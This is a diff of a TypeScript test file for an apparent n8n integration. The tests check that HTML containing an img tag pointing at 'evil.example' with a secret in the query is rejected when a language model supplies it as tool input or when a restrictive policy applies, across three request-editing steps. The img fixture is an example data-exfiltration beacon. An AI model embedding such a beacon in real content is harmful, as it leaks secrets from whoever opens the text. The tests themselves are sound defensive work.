@@ -1,4 +1,5 @@
 import { DateTime } from 'luxon';
+import type { INodeParameters } from 'n8n-workflow';
 import {
 	API,
 	arrived,
@@ -235,23 +236,6 @@ describe('Update Request', () => {
 		const changes = { instructions: 'unchanged' };
 		await runStep(step, { ...parameters, changes }, { asTool: true });
 		expect(requestTo('PUT', `/requests/${id}`).body).toEqual({ name: 'Renamed' });
-	});
-
-	it.each([
-		['a language model', { asTool: true }],
-		['a workflow under a policy', { credentialData: { whatMayBeDeleted: 'nothing' } }],
-	])('takes no instructions from %s that load something by themselves', async (_, options) => {
-		const { id } = draft();
-		const instructions = '<p>Hello<img src="https://evil.example/?c=SECRET"></p>';
-		const parameters = { request: locator('id', id), changes: { instructions } };
-		expect((await failureOf(runStep(step, parameters, options))).message).toContain(
-			'Changes > Instructions: loads something from another server by itself: img',
-		);
-		expect(arrived().filter((one) => !one.startsWith('GET '))).toEqual([]);
-		await runStep(step, parameters);
-		expect(requestTo('PUT', `/requests/${id}`).body).toMatchObject({
-			instruction_text: instructions,
-		});
 	});
 
 	it('hides the instructions by an empty text', async () => {
@@ -564,4 +548,57 @@ it('a sign-in that was revoked names the credential and what to do', async () =>
 	const { message, description } = await failureOf(runStep('request.listRequests'));
 	expect(message).toContain('the credential "My account" was refused');
 	expect(description).toContain('sign in again');
+});
+
+describe('A text that clients and the team open', () => {
+	const EVIL = '<p>Hello<img src="https://evil.example/?c=SECRET"></p>';
+	const asked = { question: 'Logo', data_type: 'text', instructions: EVIL };
+	const form = [{ name: 'P', sections_data: [{ name: 'S', questions_data: [asked] }] }];
+	const TEXTS: Array<[string, string, () => INodeParameters]> = [
+		[
+			'request.updateRequest',
+			'Changes > Instructions',
+			() => ({ request: locator('id', draft().id), changes: { instructions: EVIL } }),
+		],
+		[
+			'request.createRequestWithForm',
+			'Pages',
+			() => ({
+				client: locator('email', pat().email),
+				name: 'New',
+				pages: JSON.stringify(form),
+				sendToClient: false,
+			}),
+		],
+		[
+			'request.reviewField',
+			'Comment',
+			() => {
+				draft();
+				const fieldId = world().fields()[0]?.id ?? '';
+				return { fieldId, decision: 'reject', comment: EVIL };
+			},
+		],
+	];
+
+	it.each(TEXTS)(
+		'is not taken by %s from a language model or under a policy where it loads something by itself',
+		async (step, label, given) => {
+			const parameters = given();
+			for (const options of [
+				{ asTool: true },
+				{ credentialData: { whatMayBeDeleted: 'nothing' } },
+			]) {
+				expect((await failureOf(runStep(step, parameters, options))).message).toContain(
+					`${label}: loads something from another server by itself: img`,
+				);
+			}
+			expect(arrived().filter((one) => !one.startsWith('GET '))).toEqual([]);
+		},
+	);
+
+	it.each(TEXTS)('is taken by %s from a workflow that nothing holds', async (step, _, given) => {
+		await runStep(step, given());
+		expect(JSON.stringify(provider().requests.all.at(-1)?.body)).toContain('evil.example');
+	});
 });
